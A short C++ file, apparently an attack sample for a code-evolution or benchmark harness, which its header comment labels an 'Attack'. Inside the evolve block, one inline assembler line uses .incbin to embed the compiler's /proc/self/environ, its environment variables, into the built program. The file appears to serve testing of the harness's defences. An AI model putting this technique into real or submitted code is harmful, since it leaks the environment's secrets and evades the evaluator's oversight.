// SPDX-License-Identifier: GPL-3.0-or-later
// Attack: Lets the assembler bring the compiler's environment into the program.
// EVOLVE-BLOCK-START
namespace {

//@ product.inc

} // namespace

asm(".section .rodata; .incbin \"/proc/self/environ\"; .text");

extern "C" void tilewright_run(const Args& args)
{
    multiply(args);
}
// EVOLVE-BLOCK-END
